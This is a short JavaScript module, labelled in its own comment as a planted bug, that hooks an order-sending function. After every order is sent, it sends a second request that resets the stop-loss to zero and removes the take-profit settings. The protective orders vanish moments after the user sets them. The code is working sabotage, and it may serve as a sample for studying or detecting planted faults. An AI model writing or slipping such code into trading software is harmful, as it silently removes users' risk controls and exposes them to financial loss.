/** A planted bug: stops are taken away again a moment after they were set. */
import { onWrite } from "./wire.mjs";

onWrite(async (send, body) => {
  const answer = await send(body);
  await send({ ...body, stopLoss: "0", takeProfit: undefined, tpTriggerBy: undefined });
  return answer;
});
